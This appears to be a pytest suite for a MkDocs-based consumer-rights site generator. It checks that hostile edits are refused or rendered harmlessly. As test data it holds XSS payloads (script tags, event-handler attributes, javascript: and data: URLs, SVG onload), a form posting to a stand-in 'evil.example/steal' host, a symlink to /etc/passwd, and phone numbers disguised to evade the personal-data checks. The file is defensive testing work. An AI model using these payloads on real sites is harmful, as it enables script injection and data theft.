"""Hostile input: what an editor (or an attacker with commit rights) can type into a record or a
chapter, and what the guard and the site make of it.

Each test is one attack against a fresh copy of the qinghe fixture. Either `check` refuses it
with the exact message at the value's file and line, or what a visitor gets is harmless: the
attack text shows escaped on the page, never as markup. Pages are rendered here the way MkDocs
renders them (the generated Markdown through Python-Markdown with mkdocs.yml's extensions),
without a full build, so the battery stays fast.
"""
from __future__ import annotations

import datetime as dt
from pathlib import Path

import markdown
import pytest

from conftest import TODAY, check_json, edit, line_of
from rightsite.load import load_project
from rightsite.site.pages import SiteContent, section_intros

DAY = dt.date.fromisoformat(TODAY)


def md_to_html(text: str) -> str:
    """Markdown as the site renders it (the extensions of mkdocs.yml that matter for markup)."""
    return markdown.markdown(text, extensions=["attr_list", "md_in_html", "tables", "def_list", "admonition", "toc"])


def page_html(root: Path, src_uri: str) -> str:
    """The HTML body of one generated page of the project at `root`, even if `check` refuses
    the project (the escaping must not depend on the guard having run)."""
    project = load_project(root)
    content = SiteContent(project, DAY, root / "theme")
    if src_uri.startswith("handbook/") and src_uri != "handbook/index.md":
        chapter = project.chapters[Path(src_uri).stem]
        return md_to_html(content.chapter_markdown(chapter, chapter.body))
    pages = {p.src_uri: p for p in content.pages(section_intros(root))}
    return md_to_html(pages[src_uri].markdown)


def problems(capsys, root: Path, rule_prefix: str) -> list[dict]:
    _, data = check_json(capsys, root)
    return [p for p in data["problems"] if p["rule"].startswith(rule_prefix)]


def one(capsys, root: Path, rule_prefix: str) -> dict:
    found = problems(capsys, root, rule_prefix)
    assert len(found) == 1, found
    return found[0]


# ---- 1. URL fields ----------------------------------------------------------------------------

SITE = "data/site.yml"
URL_FORBIDDEN = "地址中不能有空格、引号、尖括号、括号、花括号或不可见字符 contains a forbidden character"


def url_msg(value: str, reason: str, example: str, what: str) -> str:
    return f"“{value}”不能作为链接：{reason}。请改成 {example} 这样的{what}。 Fix the value, e.g. {example}."


@pytest.mark.parametrize("old, new, field, shown, reason, kind", [
    ("base_url: https://weiquan.qinghe-plaza.example/",
     'base_url: "https://weiquan.qinghe-plaza.example/\\"><script>alert(1)</script>/"', "base_url",
     'https://weiquan.qinghe-plaza.example/...', f"含有“\"”（U+0022）：{URL_FORBIDDEN}", "site"),
    ("base_url: https://weiquan.qinghe-plaza.example/", "base_url: javascript://x.cn/%0aalert(1)//", "base_url",
     "javascript://x.cn/%0aalert(1)//", "只能以 http://、https:// 开头（现为“javascript”） the scheme must be http or https", "site"),
    ("base_url: https://weiquan.qinghe-plaza.example/", "base_url: https://weiquan.qinghe-plaza.example/?a=1#/", "base_url",
     "https://weiquan.qinghe-plaza.example/...",
     "网站地址应以 / 结尾，且不带 ? 或 # the site address ends with / and has no query or fragment", "site"),
    ("repo_url: https://code.qinghe-plaza.example/kefu/weiquan", "repo_url: javascript:alert(document.cookie)", "repo_url",
     "javascript:alert(document.cookie)", "只能以 http://、https:// 开头（现为“javascript”） the scheme must be http or https", "web"),
    ("repo_url: https://code.qinghe-plaza.example/kefu/weiquan", "repo_url: https://evil@code.qinghe-plaza.example/", "repo_url",
     "https://evil@code.qinghe-plaza.example/", "不能含用户名或密码（@ 之前的部分） no user name or password", "web"),
    ("value: weiquan@qinghe-plaza.example", 'value: "x@y.cn){onclick=alert(1)}"', "channels[3].value",
     "x@y.cn){onclick=alert(1)}", f"含有“)”（U+0029）：{URL_FORBIDDEN}", "email"),
    ("url: https://www.12315.cn/", "url: data:text/html;base64,PHNjcmlwdD4=", "channels[4].url",
     "data:text/html;base64,PHNjcmlwdD4=", "只能以 http://、https:// 开头（现为“data”） the scheme must be http or https", "web"),
    ("url: https://www.12315.cn/", 'url: "https://www.12315.cn/\u2060x"', "channels[4].url",
     "https://www.12315.cn/ x", f"含有不可见字符（U+2060）：{URL_FORBIDDEN}", "web"),
    ("value: 400-660-1315", 'value: "400-660-1315{onclick=alert(1)}"', "channels[0].value",
     "40******15{onclick=alert(1)}", "电话号码只能包含数字、空格和连字符 a phone number is digits, spaces and dashes", "tel"),
])
def test_url_fields_are_parsed_against_a_scheme_allowlist(capsys, qinghe, old, new, field, shown, reason, kind):
    path = qinghe / SITE
    edit(path, old, new)
    example, what = {"site": ("https://www.example.cn/", "完整网址（只用 http/https）"),
                     "web": ("https://www.example.cn/page", "完整网址（只用 http/https）"),
                     "email": ("service@example.cn", "邮箱地址"), "tel": ("0571-8888 6666", "电话号码")}[kind]
    found = [p for p in problems(capsys, qinghe, "schema.") if p["field"] == field]
    assert len(found) == 1, found
    p = found[0]
    assert (p["rule"], p["file"], p["line"]) == ("schema.url", SITE, line_of(path, new.split(":")[0] + ":" + new.split(":", 1)[1][:8]))
    assert p["message"] == url_msg(shown, reason, example, what)


def test_a_law_url_must_be_http(capsys, qinghe):
    path = qinghe / "data" / "laws.yml"
    edit(path, "    article: 第七条\n", "    article: 第七条\n    url: 'javascript:alert(1)'\n")
    p = one(capsys, qinghe, "schema.url")
    assert (p["file"], p["line"], p["field"]) == ("data/laws.yml", line_of(path, "javascript:"), "laws[0].url")
    assert p["message"] == url_msg("javascript:alert(1)", "只能以 http://、https:// 开头（现为“javascript”） the scheme must be http or https",
                                   "https://www.example.cn/page", "完整网址（只用 http/https）")


def test_edit_uri_is_a_plain_relative_path(capsys, qinghe):
    path = qinghe / SITE
    edit(path, "edit_uri: src/branch/main/", 'edit_uri: "x\\" onmouseover=\\"alert(1)"')
    p = one(capsys, qinghe, "schema.url")
    assert (p["file"], p["line"], p["field"]) == (SITE, line_of(path, "edit_uri:"), "edit_uri")
    assert p["message"] == ("编辑链接路径只能是由字母、数字、-、_、. 组成的相对路径，如 edit/main/。"
                            " edit_uri is a relative path such as edit/main/.")


def test_email_channel_never_becomes_an_attribute_on_the_home_page(qinghe):
    """Even unchecked (a preview of a broken project), the e-mail value stays text."""
    edit(qinghe / SITE, "value: weiquan@qinghe-plaza.example", 'value: "x@y.cn){onclick=alert(1)}"')
    for uri in ("index.md", "channels.md"):
        html = page_html(qinghe, uri)
        assert 'onclick="' not in html and "onclick='" not in html
        # the visitor reads the value as typed, and it links nowhere
        assert '<a href="#">x@y.cn)&#123;onclick=alert(1)&#125;</a>' in html


def test_channel_links_are_written_from_the_parsed_value(qinghe):
    html = page_html(qinghe, "channels.md")
    assert '<a href="mailto:weiquan@qinghe-plaza.example">weiquan@qinghe-plaza.example</a>' in html
    assert '<a href="tel:4006601315">400-660-1315</a>' in html


# ---- 2. labels and metadata -----------------------------------------------------------------

LAWS = "data/laws.yml"
LINK_ATTACK = "](javascript:alert(1))[点我"


def label_msg(value: str, char: str) -> str:
    return (f"“{value}”含有“{char}”：名称和简称只写文字，不能有 < > [ ] {{ }} | * _ ` # \" 等符号。"
            "请删去该符号。 Labels are plain text: remove the markup character.")


@pytest.mark.parametrize("file, old, new, field, shown, char", [
    (LAWS, "    article: 第八条", f"    article: '第八条{LINK_ATTACK}'", "laws[1].article", f"第八条{LINK_ATTACK}", "]"),
    (LAWS, "    short: 消法", "    short: '消法\"><img src=x onerror=alert(1)>'", "laws[0].short",
     '消法"><img src=x onerror=alert(1)>', '"'),
    ("data/categories.yml", "  - name: 商品质量", "  - name: '商品质量{: onclick=alert(1) }'", "natures[0].name",
     "商品质量{: onclick=alert(1) }", "{"),
    (LAWS, "    law: 中华人民共和国消费者权益保护法", "    law: '中华人民共和国消费者权益保护法 | 见附表'", "laws[0].law",
     "中华人民共和国消费者权益保护法 | 见附表", "|"),
])
def test_labels_with_markup_are_refused(capsys, qinghe, file, old, new, field, shown, char):
    path = qinghe / file
    edit(path, old, new)
    found = [p for p in problems(capsys, qinghe, "schema.") if p["field"] == field]
    assert len(found) == 1, found
    p = found[0]
    assert (p["rule"], p["file"], p["line"]) == ("schema.label", file, line_of(path, new.strip()[:12]))
    assert p["message"] == label_msg(shown, char)


def test_a_law_label_is_text_on_every_page_that_cites_it(qinghe):
    """A law's article with a Markdown link in it: on the case page, the chapter's law list and
    the law page, the visitor reads the brackets; no javascript: link exists."""
    edit(qinghe / LAWS, "    article: 第八条", f"    article: '第八条{LINK_ATTACK}'")
    for uri in ("cases/2025-001.md", "handbook/quanli.md", "laws.md"):
        html = page_html(qinghe, uri)
        assert "javascript:" not in html.replace(f"第八条{LINK_ATTACK}", ""), uri
        assert 'href="javascript' not in html, uri
        assert f"《消法》第八条{LINK_ATTACK}</a>" in html or f"第八条{LINK_ATTACK}" in html, uri
    assert '<a href="../laws.md#cpl-8">《消法》第八条](javascript:alert(1))[点我</a>' in page_html(qinghe, "handbook/quanli.md")


def test_a_standard_cites_a_law_whose_short_name_carries_html(qinghe):
    edit(qinghe / LAWS, "    short: 实施条例\n    article: 第四十四条", "    short: '条例<script>alert(1)</script>'\n    article: 第四十四条")
    std = next(p.stem for p in (qinghe / "data" / "standards").glob("*.yml") if "reg-44" in p.read_text(encoding="utf-8"))
    html = page_html(qinghe, f"standards/{std}.md")
    assert "<script>" not in html
    assert "《条例&lt;script&gt;alert(1)&lt;/script&gt;》" in html


def test_a_description_cannot_break_out_of_meta(qinghe):
    """The theme prints page.meta.description into <meta content="..."> unescaped: the plugin
    escapes it for every page (chapters and hand-written pages alike)."""
    from types import SimpleNamespace

    from rightsite.site.plugin import RightsitePlugin

    page = SimpleNamespace(meta={"description": '"><script>alert(1)</script>'},
                           file=SimpleNamespace(src_uri="about.md"))
    assert RightsitePlugin().on_page_markdown("# x", page, None, None) == "# x"
    assert page.meta["description"] == "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"


# ---- 3. chapters: raw HTML --------------------------------------------------------------------

CHAPTER = "content/handbook/quanli.md"
WHY = {
    "tag": "网页只允许段落、标题、列表、表格、图片、链接等排版标签，不允许脚本、表单、内嵌框架、SVG 等",
    "attribute": "事件属性（onclick、onerror 等）和不在允许清单中的属性都不允许",
    "style": "只允许表格列的 text-align 对齐样式",
    "url": "链接和图片只能用 http、https、mailto、tel 或站内相对地址，不能用 javascript:、data:、file: 等",
}


def html_msg(what: str, kind: str) -> str:
    return (f"“{what}”不能发布：{WHY[kind]}。网页和 PDF 中会删除它；请从源文件中删去或改写。"
            f" Disallowed HTML ({kind}) is removed from the site; remove it from the source.")


# (Markdown appended to a chapter, the line (text) it is reported at, what, kind)
CHAPTER_ATTACKS = [
    ("<script>alert(document.cookie)</script>", "<script>", "<script>", "tag"),
    ("<p>看这里<script\n>alert(1)</script></p>", "<script", "<script>", "tag"),
    ('<img src="../assets/none.png" alt="图"\n     onerror="alert(1)">', "onerror", "onerror（<img>）", "attribute"),
    ("<svg onload=alert(1)><circle r=1 /></svg>", "<svg", "<svg>", "tag"),
    ('<form action="https://evil.example/steal">\n请留手机号</form>', "<form", "<form>", "tag"),
    ('<p>请填写：<input name="phone"></p>', "<input", "<input>", "tag"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe", "<iframe>", "tag"),
    ("[点我领红包](javascript:alert(1))", "javascript:", "javascript:alert(1)", "url"),
    ("参见[说明][help]。\n\n[help]: javascript:alert(2)", "[help]:", "javascript:alert(2)", "url"),
    ('<a href = "JaVa&#x09;script:alert(1)">链接</a>', "<a href", "JaVa script:alert(1)", "url"),
    ("![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "![图]",
     "data:image/svg+xml;base64,PHN2ZyBvbmx...", "url"),
    ("## 退货须知 { onclick=alert(1) }", "## 退货须知", "onclick（<h2>）", "attribute"),
    ('<p style="background:url(https://evil.example/t.png)">文字</p>', "<p style", "style（<p>）", "attribute"),
    ("<object data=\"x.swf\"></object>", "<object", "<object>", "tag"),
    ('<div onmouseover="alert(1)">悬停</div>', "<div", "onmouseover（<div>）", "attribute"),
]


@pytest.mark.parametrize("snippet, at, what, kind", CHAPTER_ATTACKS, ids=[a[2][:20] for a in CHAPTER_ATTACKS])
def test_disallowed_html_in_a_chapter_is_reported_at_its_line(capsys, qinghe, snippet, at, what, kind):
    path = qinghe / CHAPTER
    path.write_text(path.read_text(encoding="utf-8") + "\n\n" + snippet + "\n", encoding="utf-8")
    found = problems(capsys, qinghe, "link.")
    found = [p for p in found if p["rule"] in ("link.html", "link.scheme")]
    assert len(found) == 1, found
    p = found[0]
    assert (p["rule"], p["file"], p["line"], p["field"]) == (
        "link.scheme" if kind == "url" else "link.html", CHAPTER, line_of(path, at), "body")
    assert p["message"] == html_msg(what, kind)


@pytest.mark.parametrize("snippet, at, what, kind", CHAPTER_ATTACKS, ids=[a[2][:20] for a in CHAPTER_ATTACKS])
def test_disallowed_html_never_reaches_the_page(snippet, at, what, kind):
    """What the plugin publishes for a hand-written page: the visitor keeps the text, loses the markup."""
    from types import SimpleNamespace

    from rightsite.site.plugin import RightsitePlugin

    page = SimpleNamespace(file=SimpleNamespace(generated_by=None, src_uri="handbook/quanli.md"))
    html = RightsitePlugin().on_page_content(md_to_html(snippet), page, None, None).lower()
    for bad in ("<script", "<svg", "<form", "<input", "<iframe", "<object", "onerror", "onload", "onclick",
                "onmouseover", "javascript:", "data:", "url("):
        assert bad not in html, (bad, html)
    for text in ("看这里", "点我领红包", "退货须知", "悬停", "链接"):
        if text in snippet:
            assert text in html


def test_the_handbook_markup_survives_the_sanitizer():
    """Tables with aligned columns, admonitions, images, heading anchors, footnote-like links."""
    from rightsite.site.markup import sanitize_html

    html = md_to_html("!!! note \"提示\"\n    保留小票。\n\n| 项目 | 金额 |\n|:--|--:|\n| 退款 | 30 |\n\n"
                      "![小票示例](../assets/receipt.png){ width=\"200\" }\n\n[消法](../laws.md#cpl-24) · [12315](https://www.12315.cn/)"
                      " · [电话](tel:12315) · [邮件](mailto:a@b.cn)\n\n## 标题 { #anchor .note }")
    assert sanitize_html(html) == html.replace(" />", ">").replace('style="text-align: left;"', 'style="text-align:left"').replace(
        'style="text-align: right;"', 'style="text-align:right"')


# ---- 4. files under content/ ------------------------------------------------------------------

def link_msg(why: str, top: str = "content") -> str:
    return (f"这是{why}的链接（symlink），其内容会被公开。{top}/ 中的链接只能指向 {top}/ 里的文件；"
            f"请删除它，把需要的文件复制进来。 A symlink leading outside {top}/ (or to a folder); copy the file in instead.")


@pytest.mark.parametrize("name, target, why", [
    ("git", "../.git", "指向文件夹 .git/"),
    ("ledger.csv", "../../data/complaints/2024.csv", "指向 content/ 以外的 data/complaints/2024.csv"),
    ("loop", "..", "指向整个项目文件夹"),
    ("site.md", "../../data/site.yml", "指向 content/ 以外的 data/site.yml"),
    ("passwd.md", "/etc/passwd", "指向项目以外"),
])
def test_symlinks_out_of_content_are_refused(capsys, qinghe, name, target, why):
    (qinghe / ".git").mkdir(exist_ok=True)
    (qinghe / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    link = qinghe / "content" / ("handbook" if target.startswith("../../") else "") / name
    link.symlink_to(target)
    p = one(capsys, qinghe, "schema.file")
    assert (p["file"], p["line"]) == (link.relative_to(qinghe).as_posix(), 1)
    assert p["message"] == link_msg(why)


def test_a_symlink_loop_does_not_hang_the_check(capsys, qinghe):
    """ln -s .. content/x, and a -> b -> a: both reported at once (os.walk never follows them)."""
    import time

    (qinghe / "content" / "x").symlink_to("..")
    (qinghe / "content" / "a.md").symlink_to("b.md")
    (qinghe / "content" / "b.md").symlink_to("a.md")
    t0 = time.monotonic()
    found = problems(capsys, qinghe, "schema.file")
    assert time.monotonic() - t0 < 30
    assert [(p["file"], p["message"][:11]) for p in found] == [
        ("content/a.md", "这是一个失效或循环的链"), ("content/b.md", "这是一个失效或循环的链"), ("content/x", "这是指向整个项目文件夹")]


def test_a_symlink_to_a_file_inside_content_is_fine(capsys, qinghe):
    (qinghe / "content" / "handbook" / "rights.md").symlink_to("quanli.md")
    assert problems(capsys, qinghe, "schema.file") == []


@pytest.mark.parametrize("name", ["notes.txt", "2024.csv", "export.CSV", "page.html", "data.json"])
def test_files_other_than_pages_and_images_are_refused(capsys, qinghe, name):
    (qinghe / "content" / name).write_text("张伟 13812345678\n", encoding="utf-8")
    p = one(capsys, qinghe, "schema.file")
    assert (p["file"], p["line"]) == (f"content/{name}", 1)
    assert p["message"] == (f"content/ 中只能放 Markdown 页面和图片（png、jpg、gif、webp、svg）：{name} 会原样公开，"
                            "且不经个人信息检查。请删除它，或把内容写进 Markdown 页面。"
                            " Only Markdown pages and images belong in content/; this file would be published unchecked.")


def test_dotfiles_are_not_reported(capsys, qinghe):
    (qinghe / "content" / ".DS_Store").write_bytes(b"\0\1")
    assert problems(capsys, qinghe, "schema.file") == []


@pytest.mark.parametrize("svg, line, shown", [
    ('<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>', 2, "<script"),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', 1, "onload="),
    ('<svg xmlns="http://www.w3.org/2000/svg">\n\n<image href="https://evil.example/t.png"/></svg>', 3, 'href="https:'),
    ('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>', 1, 'href="javascript:'),
    ('<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: url(https://evil.example/p.svg#x) }</style></svg>', 1,
     "url(https:"),
])
def test_an_svg_with_a_script_is_refused(capsys, qinghe, svg, line, shown):
    (qinghe / "content" / "handbook" / "pic.svg").write_text(svg, encoding="utf-8")
    p = one(capsys, qinghe, "schema.file")
    assert (p["file"], p["line"]) == ("content/handbook/pic.svg", line)
    assert p["message"] == (f"SVG 图片中有“{shown}”：图片里不能有脚本、事件属性或对外引用。请用绘图软件重新导出为纯图形（或改用 PNG）。"
                            " An SVG with a script, an event handler or an outside reference; export a plain drawing.")


def test_the_text_of_an_svg_is_scanned_for_personal_data(capsys, qinghe):
    (qinghe / "content" / "handbook" / "card.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 20">\n<rect width="100" height="20"/>\n'
        '<text x="1" y="15">联系人手机 13812345678</text></svg>', encoding="utf-8")
    p = one(capsys, qinghe, "pii.")
    assert (p["rule"], p["file"], p["line"]) == ("pii.mobile", "content/handbook/card.svg", 3)
    assert "138****5678" in p["message"] and "13812345678" not in p["message"]


def test_a_section_intro_is_scanned_for_personal_data(capsys, qinghe):
    path = qinghe / "content" / "cases" / "index.md"
    path.write_text(path.read_text(encoding="utf-8") + "\n本页案例由消费者王芳提供，电话 139 1234 5678。\n", encoding="utf-8")
    found = problems(capsys, qinghe, "pii.")
    assert [(p["rule"], p["file"], p["line"]) for p in found] == [
        ("pii.mobile", "content/cases/index.md", line_of(path, "王芳")), ("pii.name", "content/cases/index.md", line_of(path, "王芳"))]


# ---- 5. personal data in disguise, in every field the build prints ----------------------------

def pii_msg(label: str, masked: str, rule: str) -> str:
    return (f"疑似{label}“{masked}”：公开文本不得含个人信息。请改成匿名写法（张某、王女士、某服装店），"
            f"删去号码、地址等；如确属误报，在本记录的 pii_allow 中登记该文字和理由。"
            f" Possible {rule.split('.')[-1]} in public text; anonymize it, or list it in pii_allow with a reason.")


@pytest.mark.parametrize("line, rule, label, masked", [
    ("当事人的手机是 138\u20601234\u20605678。", "pii.mobile", "手机号码", "138****5678"),
    ("当事人的手机是 1\u00ad3\u00ad8\u00ad1\u00ad2\u00ad3\u00ad4\u00ad5\u00ad6\u00ad7\u00ad8。", "pii.mobile", "手机号码", "138****5678"),
    ("当事人的手机是 138.1234.5678。", "pii.mobile", "手机号码", "138****5678"),
    ("当事人的手机是 138/1234/5678。", "pii.mobile", "手机号码", "138****5678"),
    ("当事人的手机是一三八一二三四五六七八。", "pii.mobile", "手机号码", "138****5678"),
    ("当事人的手机是①③⑧①②③④⑤⑥⑦⑧。", "pii.mobile", "手机号码", "138****5678"),
    ("当事人的手机是１３８ １２３４ ５６７８。", "pii.mobile", "手机号码", "138****5678"),
    ("当事人的车停在地库，车牌粤b12345。", "pii.plate", "车牌号码", "粤b***45"),
    ("材料请发 zhangwei(at)163.com 。", "pii.email", "电子邮箱", "z***@163.com"),
    ("材料请发 zhangwei [at] 163 [dot] com 。", "pii.email", "电子邮箱", "z***@163 [dot] com"),
    ("店员的微 信：zhangwei_1988。", "pii.wechat", "微信号", "zha*******988"),
    ("<!-- 回访：顾客手机 13912345678 -->", "pii.mobile", "手机号码", "139****5678"),
    ('<span title="顾客 13912345678">回访记录</span>', "pii.mobile", "手机号码", "139****5678"),
])
def test_disguised_personal_data_in_a_chapter_is_refused(capsys, qinghe, line, rule, label, masked):
    path = qinghe / CHAPTER
    path.write_text(path.read_text(encoding="utf-8") + "\n\n" + line + "\n", encoding="utf-8")
    p = one(capsys, qinghe, "pii.")
    assert (p["rule"], p["file"], p["line"], p["field"]) == (rule, CHAPTER, line_of(path, line[:6]), "body")
    assert p["message"] == pii_msg(label, masked, rule)
    digits = "".join(c for c in line if c.isdigit())
    assert (len(digits) < 11 or digits not in p["message"]) and "13812345678" not in p["message"]


@pytest.mark.parametrize("file, old, new, field", [
    (SITE, "  owner: 客户服务部", "  owner: 客户服务部（联系人手机 13812345678）", "group.owner"),
    (SITE, "    note: 非服务时间可留言，次日上午回电", "    note: 非服务时间请拨值班手机 13812345678", "channels[0].note"),
    (SITE, '    hours: "每日 9:30–21:00"', '    hours: "每日 9:30–21:00，夜间 13812345678"', "channels[0].hours"),
    ("data/surveys/2025.yml", "    text: 投诉途径是否好找、好用", "    text: 投诉途径是否好找（回访 13812345678）", "questions[0].text"),
    (LAWS, "    article: 第七条", "    article: 第七条\n    text: 经营者应当……联系人 13812345678", "laws[0].text"),
    ("data/events/2025-001.yml", "owner: 客户服务部", "owner: 客户服务部 13812345678", "owner"),
])
def test_check_scans_every_field_the_build_prints(capsys, qinghe, file, old, new, field):
    path = qinghe / file
    edit(path, old, new)
    p = one(capsys, qinghe, "pii.")
    assert (p["rule"], p["file"], p["line"], p["field"]) == ("pii.mobile", file, line_of(path, "13812345678"), field)
    assert p["message"] == pii_msg("手机号码", "138****5678", "pii.mobile")


# ---- 6. odd input -----------------------------------------------------------------------------

CASE = "data/cases/2025-001.yml"


def control_msg(code: str) -> str:
    return (f"含有控制字符 {code}（看不见，会让网站的订阅源和日历无法读取）。请删去它：重新输入这段文字，"
            f"不要从其他软件粘贴格式字符。 Contains the control character {code}; retype the text without it.")


def test_a_control_character_is_refused_and_never_reaches_the_feed(capsys, qinghe):
    import xml.etree.ElementTree as ET

    from rightsite.site.feeds import atom_feed

    path = qinghe / CASE
    edit(path, "title: 生鲜称重未去皮多收货款纠纷", 'title: "生鲜称重\\x01未去皮\\x0b多收货款纠纷"')
    p = one(capsys, qinghe, "schema.control_char")
    assert (p["file"], p["line"], p["field"]) == (CASE, line_of(path, "title:"), "title")
    assert p["message"] == control_msg("U+0001")
    feed = atom_feed(load_project(qinghe), DAY)
    titles = [e.text for e in ET.fromstring(feed).iter("{http://www.w3.org/2005/Atom}title")]
    assert "典型案例：生鲜称重未去皮多收货款纠纷" in titles


def test_a_raw_control_character_in_a_record_file(capsys, qinghe):
    path = qinghe / CASE
    edit(path, "sector: 生鲜超市", "sector: 生鲜\x07超市")
    p = one(capsys, qinghe, "schema.control_char")
    assert (p["file"], p["line"]) == (CASE, line_of(path, "sector:"))
    assert p["message"] == control_msg("U+0007")


def test_a_control_character_in_a_chapter(capsys, qinghe):
    path = qinghe / CHAPTER
    path.write_text(path.read_text(encoding="utf-8") + "\n\n退货\x1b[31m须知\n", encoding="utf-8")
    p = one(capsys, qinghe, "schema.control_char")
    assert (p["file"], p["line"], p["field"]) == (CHAPTER, line_of(path, "退货"), "body")
    assert p["message"] == control_msg("U+001B")


DEPTH_MSG = "嵌套超过 32 层：记录文件不会这样写。请检查缩进和括号。 Nested more than 32 levels deep; check the indentation and brackets."


@pytest.mark.parametrize("tail, line", [
    ("tips: " + "[" * 400 + "]" * 400 + "\n", "tips:"),
    ("extra:\n" + "".join("  " * i + "k:\n" for i in range(1, 300)), "  " * 33 + "k:"),
])
def test_deeply_nested_yaml_gives_a_message_not_a_traceback(capsys, qinghe, tail, line):
    path = qinghe / CASE
    text = path.read_text(encoding="utf-8")
    path.write_text(text[: text.index("tips:")] + tail, encoding="utf-8")
    found = problems(capsys, qinghe, "schema.depth")
    assert [(p["file"], p["line"], p["message"]) for p in found] == [(CASE, line_of(path, line), DEPTH_MSG)]


def test_an_unwritable_cache_gives_no_traceback(capsys, tmp_path):
    """A read-only checkout: .cache/ cannot be made (here it is a file). check still checks."""
    from conftest import fixture_project, run_cli

    qinghe = fixture_project("qinghe", tmp_path / "qinghe")  # no cache at all, unlike the `qinghe` fixture's
    (qinghe / ".cache").write_text("not a folder", encoding="utf-8")
    code, out, err = run_cli(capsys, "--root", str(qinghe), "check", "--today", TODAY)
    assert code == 0 and "Traceback" not in out + err
    assert out.strip().endswith("0 个错误 errors, 0 个警告 warnings")


@pytest.mark.parametrize("name", ["2025-009.YML", "2025-009.Yml", "2025-009.yaml", "2025-009.YAML"])
def test_a_record_with_the_wrong_extension_is_reported(capsys, qinghe, name):
    (qinghe / "data" / "cases" / name).write_text((qinghe / CASE).read_text(encoding="utf-8").replace("2025-001", "2025-009"),
                                                  encoding="utf-8")
    p = one(capsys, qinghe, "schema.file")
    stem = name.split(".")[0]
    assert (p["level"], p["file"], p["line"]) == ("error", f"data/cases/{name}", 1)
    assert p["message"] == f"请把扩展名改为 .yml（{stem}.yml）：否则这条记录不会被读取。 Use the .yml extension."


def test_an_unknown_file_in_a_record_folder_is_reported(capsys, qinghe):
    (qinghe / "data" / "cases" / "2025-001.yml.bak").write_text("id: x\n", encoding="utf-8")
    p = one(capsys, qinghe, "schema.file")
    assert (p["level"], p["file"]) == ("warning", "data/cases/2025-001.yml.bak")
    assert p["message"] == ("data/cases/ 只放记录文件（编号.yml），2025-001.yml.bak 不会被读取。请移走或删除它。"
                            " Only records (id.yml) belong here; this file is not read.")


def test_a_chapter_saved_as_MD_is_reported(capsys, qinghe):
    (qinghe / "content" / "handbook" / "quanli.md").rename(qinghe / "content" / "handbook" / "quanli.MD")
    found = [p for p in problems(capsys, qinghe, "schema.file") if p["file"] == "content/handbook/quanli.MD"]
    assert [p["message"] for p in found] == ["请把扩展名改为 .md（quanli.md）：否则这一章不会出现在手册中。 Use the .md extension."]


@pytest.mark.parametrize("old, new, shown", [
    ("received: 2025-02-14", "received: 13812345678", "138****5678"),
    ("amount_recovered: 16.32", "amount_recovered: 手机13812345678", "手机138****5678"),
    ("id: 2025-001", "id: 2025-001-13812345678", "202***********5678"),
])
def test_messages_never_repeat_a_typed_phone_number(capsys, qinghe, old, new, shown):
    edit(qinghe / CASE, old, new)
    _, data = check_json(capsys, qinghe)
    messages = [p["message"] for p in data["problems"]]
    assert messages and not any("13812345678" in m for m in messages)
    assert any(f"“{shown}”" in m for m in messages), messages


EXTERNAL = ("引用了外部资源 https://evil.example/t.png：网站和印刷品只能使用仓库内的文件（图片请放进 content/ 并用相对路径）。"
            " External resources are not allowed; put the file in the repository.")


@pytest.mark.parametrize("snippet, at", [
    ("![小票][pic]\n\n[pic]: https://evil.example/t.png", "[pic]:"),
    ('<img alt="小票"\n     src = "https://evil.example/t.png">', 'src = "https'),
    ("![小票](https://evil.example/t.png)", "![小票]"),
    ('<p><img alt="小票" src="//evil.example/t.png"></p>', "<p><img"),
])
def test_an_image_from_another_host_is_reported_once_in_any_syntax(capsys, qinghe, snippet, at):
    path = qinghe / CHAPTER
    path.write_text(path.read_text(encoding="utf-8") + "\n\n" + snippet + "\n", encoding="utf-8")
    found = problems(capsys, qinghe, "link.external")
    want = EXTERNAL.replace("https://evil.example/t.png", "//evil.example/t.png") if "//evil" in snippet and "https" not in snippet \
        else EXTERNAL
    assert [(p["file"], p["line"], p["message"]) for p in found] == [(CHAPTER, line_of(path, at), want)]


# ---- what a visitor gets: one real build of qinghe with the attacks that pass the guard -----------

def _make_hostile(root: Path) -> None:
    from conftest import fixture_project

    fixture_project("qinghe", root)
    path = root / CHAPTER
    text = path.read_text(encoding="utf-8")
    text = text.replace("title: 消费者的权利\n", 'title: 消费者的权利\ndescription: \'"><script>alert(1)</script>\'\n', 1)
    path.write_text(text + "\n\n<!-- 编辑备注：下次改版删去本段 -->\n\n| 权利 | 条款 |\n|:--|--:|\n| 安全权 | 第七条 |\n",
                    encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(shared_dir):
    from conftest import build_copy

    return build_copy(shared_dir, "qinghe-hostile", "qinghe", _make_hostile, strict=False)


def test_a_built_chapter_page_keeps_metadata_and_comments_harmless(hostile):
    assert hostile.code == 0, hostile.err
    html = (hostile.site / "handbook" / "quanli" / "index.html").read_text(encoding="utf-8")
    assert '<meta name="description" content="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">' in html
    assert "<script>alert(1)</script>" not in html
    assert "编辑备注" not in html  # comments are not published
    assert '<td style="text-align:left">安全权</td>' in html and '<td style="text-align:right">第七条</td>' in html


def test_ordinary_punctuation_in_a_label_passes(capsys, qinghe):
    """Look-alike: full-width brackets, an ampersand, a slash and a dot are text, not markup."""
    edit(qinghe / LAWS, "    short: 消法", "    short: 消法（2013 修正）& 实施条例 / 第 1.2 版")
    assert problems(capsys, qinghe, "schema.label") == []
    assert "《消法（2013 修正）&amp; 实施条例 / 第 1.2 版》第七条" in page_html(qinghe, "handbook/quanli.md")
